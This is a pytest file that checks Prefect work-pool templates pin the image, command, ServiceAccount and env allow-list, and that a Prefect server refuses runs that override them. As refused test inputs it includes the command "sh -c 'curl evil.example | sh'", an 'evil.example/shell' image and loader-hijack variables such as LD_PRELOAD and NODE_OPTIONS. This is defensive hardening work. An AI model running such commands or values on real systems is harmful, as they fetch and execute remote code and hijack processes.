"""The Kubernetes pool's template fixes what a run could otherwise change: its image (by
digest), command, ServiceAccount, cluster credentials and the signing key's path, and
limits env to an allow-list: the flow's own settings and the variables the specs declare.
A real Prefect server refuses (422) a deployment or a flow run that sets the image, command
or ServiceAccount, or any other env variable (what the loader, Python, Kubernetes, OpenSSL
or the signing would read among them), and takes what prefect.yaml's Kubernetes deployment
sets. A spec that declares a name the loader or Python reads renders no template."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml
from prefect.client.schemas.actions import WorkPoolCreate
from prefect.exceptions import PrefectHTTPStatusError

from flows.workpool import COMMAND, FIXED, render_pool_template, render_process_template
from tests.kubepool.pool import prefect_client
from tests.webhook.servers import PrefectServer

ROOT = Path(__file__).resolve().parents[2]
IMAGE = "registry.example/org/handoff@sha256:" + "ab" * 32


def _kubernetes_job_variables() -> dict[str, Any]:
    deployments = yaml.safe_load((ROOT / "prefect.yaml").read_text())["deployments"]
    job = next(d for d in deployments if d["name"] == "handoff-on-merge-kubernetes")
    return dict(job["work_pool"]["job_variables"])


def test_the_rendered_template_fixes_image_command_and_account() -> None:
    template = render_pool_template(IMAGE, service_account="handoff")
    pod = template["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]
    assert pod["containers"][0]["image"] == IMAGE
    assert pod["containers"][0]["args"] == COMMAND
    assert pod["serviceAccountName"] == "handoff"
    # the audit record's account of the image that ran (flows/source_tree.py)
    assert {"name": "HANDOFF_FLOW_IMAGE", "value": IMAGE} in pod["containers"][0]["env"]
    assert "cluster_config" not in template["job_configuration"]
    variables = template["variables"]
    # A variable the job's configuration does not name changes nothing (Prefect keeps a
    # block reference such as cluster_config's even where the schema has no such key).
    named = set(re.findall(r"\{\{ *(\w+) *\}\}", json.dumps(template["job_configuration"])))
    assert named <= set(variables["properties"]), named - set(variables["properties"])
    assert not named & set(FIXED)
    assert variables["additionalProperties"] is False
    assert not set(FIXED) & set(variables["properties"])
    assert not set(FIXED) & set(_kubernetes_job_variables()), "prefect.yaml sets a fixed one"


@pytest.mark.parametrize("image", ["registry.example/org/handoff:main", "handoff", ""])
def test_an_image_not_pinned_by_digest_renders_nothing(image: str) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "cli", "work-pool", "render", "--image", image],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 2 and result.stdout == "", result.stdout
    assert "not pinned by digest" in result.stderr and "@sha256:" in result.stderr


def test_prefect_refuses_a_run_that_would_change_what_runs_or_as_whom(
    prefect: PrefectServer,
) -> None:
    pool = f"handoff-fixed-{uuid.uuid4().hex[:6]}"
    template = render_pool_template(IMAGE, declared=["CANDLE_VLLM_SOURCE"])
    shipped = _kubernetes_job_variables()
    overrides: dict[str, Any] = {
        "image": "evil.example/shell:1",
        "command": "sh -c 'curl evil.example | sh'",
        "service_account_name": "prefect-worker",
        # what the loader, Python or the signing reads, in a Job under the handoff account
        **{
            f"env {name}": {name: "/tmp/x"}
            for name in (
                "LD_PRELOAD",
                "PYTHONPATH",
                "KUBECONFIG",
                "KUBERNETES_SERVICE_HOST",
                "HTTPS_PROXY",
                "REQUESTS_CA_BUNDLE",
                "PREFECT_API_URL",
                "HANDOFF_SIGNING_KEY_FILE",
                "HANDOFF_FLOW_IMAGE",  # the record would name another image than ran
                # read by OpenSSL and Node, and by none of the above's rules: only an
                # allow-list refuses what nobody thought to name
                "OPENSSL_CONF",
                "NODE_OPTIONS",
                # a spec declares it, but not this spec set
                "GDN_FIX_COMMIT",
            )
        },
    }
    with prefect_client(prefect.api_url) as client:
        client.create_work_pool(
            WorkPoolCreate(name=pool, type="kubernetes", base_job_template=template)
        )
        flow_id = client.create_flow_from_name("handoff")
        for name, value in overrides.items():  # a deployment that sets one
            variables = _variable(name, value)
            with pytest.raises(PrefectHTTPStatusError) as refused:
                made = client.create_deployment(
                    flow_id, f"{pool}-{name.split()[-1]}", work_pool_name=pool,
                    job_variables=variables,
                )  # fmt: skip
                pytest.fail(f"a deployment setting {name} was accepted: {made}")
            assert refused.value.response.status_code == 422, name
        # prefect.yaml's own job variables are accepted
        deployment = client.create_deployment(
            flow_id, pool, work_pool_name=pool, job_variables=shipped
        )
        for name, value in overrides.items():  # a flow run that sets one
            with pytest.raises(PrefectHTTPStatusError) as refused:
                run = client.create_flow_run_from_deployment(
                    deployment, job_variables=_variable(name, value)
                )
                pytest.fail(f"a flow run setting {name} was accepted: {run.id}")
            assert refused.value.response.status_code == 422, name
            named = name.split()[-1]
            assert named in json.dumps(refused.value.response.json()), refused.value.response.text
        # the flow's settings, and a variable a spec declares (`environment:`)
        env = {"HANDOFF_POD_ACCESS": "port-forward", "CANDLE_VLLM_SOURCE": "https://g.example"}
        allowed = {"namespace": "llm-serving", "env": env}
        run = client.create_flow_run_from_deployment(deployment, job_variables=allowed)
        assert run.job_variables == allowed
        client.delete_deployment(deployment)
        client.delete_work_pool(pool)


@pytest.mark.parametrize("name", ["LD_PRELOAD", "PYTHONSTARTUP", "KUBECONFIG", "lower_case"])
def test_a_spec_declaring_a_name_the_loader_reads_renders_no_template(
    name: str, tmp_path: Path
) -> None:
    spec = tmp_path / "s.yaml"
    spec.write_text(yaml.safe_dump({"name": "s", "environment": [name]}))
    result = subprocess.run(
        [sys.executable, "-m", "cli", "work-pool", "render", "--image", IMAGE, str(spec)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 2 and result.stdout == "", result.stdout
    assert name in result.stderr and "may not set" in result.stderr, result.stderr


def test_the_rendered_allow_list_names_what_the_repositorys_specs_declare() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "cli", "work-pool", "render", "--image", IMAGE],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
    )
    assert result.returncode == 0, result.stderr
    pattern = json.loads(result.stdout)["variables"]["properties"]["env"]["propertyNames"]
    allowed = re.compile(pattern["pattern"])
    for name in ("CANDLE_VLLM_SOURCE", "GDN_FIX_COMMIT", "HANDOFF_POD_ACCESS"):
        assert allowed.match(name), name
    for name in ("OPENSSL_CONF", "HANDOFF_SIGNING_KEY_FILE", "CANDLE_VLLM_SOURCEX", "PATH"):
        assert not allowed.match(name), name


def _variable(name: str, value: Any) -> dict[str, Any]:
    """`env NAME` stands for the env variable with that one name."""
    return {"env": value} if name.startswith("env ") else {name: value}


def test_the_worker_image_is_the_locked_prefect_version() -> None:
    """The worker's image names one Prefect release, the one uv.lock holds (its digest is
    pinned where it is deployed: this machine reaches no image registry)."""
    worker = next(
        d
        for d in yaml.safe_load_all((ROOT / "manifests/rbac/prefect-worker.yaml").read_text())
        if d and d["kind"] == "Deployment"
    )
    [container] = worker["spec"]["template"]["spec"]["containers"]
    locked = re.search(
        r'\[\[package\]\]\nname = "prefect"\nversion = "([^"]+)"', (ROOT / "uv.lock").read_text()
    )
    assert locked is not None
    assert container["image"] == f"prefecthq/prefect:{locked[1]}-python3.11-kubernetes"


def test_the_process_pool_runs_only_what_its_worker_starts(prefect: PrefectServer) -> None:
    """The process worker runs on a host with the cluster's credentials: a run may not set
    its command or working directory, nor an environment variable outside the flow's own
    settings (LD_PRELOAD, PYTHONPATH, KUBECONFIG, PATH, the key files)."""
    pool = f"handoff-process-fixed-{uuid.uuid4().hex[:6]}"
    refused_variables: list[dict[str, Any]] = [
        {"command": "sh -c 'curl evil.example | sh'"},
        {"working_dir": "/root"},
        *(
            {"env": {name: "/tmp/x"}}
            for name in (
                "LD_PRELOAD",
                "PYTHONPATH",
                "KUBECONFIG",
                "PATH",
                "PREFECT_API_URL",
                "HANDOFF_EVENT_PUBLIC_KEY_FILE",
                "HANDOFF_SIGNING_KEY_FILE",
            )
        ),
    ]
    with prefect_client(prefect.api_url) as client:
        client.create_work_pool(
            WorkPoolCreate(name=pool, type="process", base_job_template=render_process_template())
        )
        flow_id = client.create_flow_from_name("handoff")
        deployment = client.create_deployment(flow_id, pool, work_pool_name=pool)
        for variables in refused_variables:
            with pytest.raises(PrefectHTTPStatusError) as refused:
                run = client.create_flow_run_from_deployment(deployment, job_variables=variables)
                pytest.fail(f"a flow run setting {variables} was accepted: {run.id}")
            assert refused.value.response.status_code == 422, variables
        allowed = {"env": {"HANDOFF_LEASE_S": "30", "HANDOFF_POD_ACCESS": "port-forward"}}
        run = client.create_flow_run_from_deployment(deployment, job_variables=allowed)
        assert run.job_variables == allowed
        client.delete_deployment(deployment)
        client.delete_work_pool(pool)
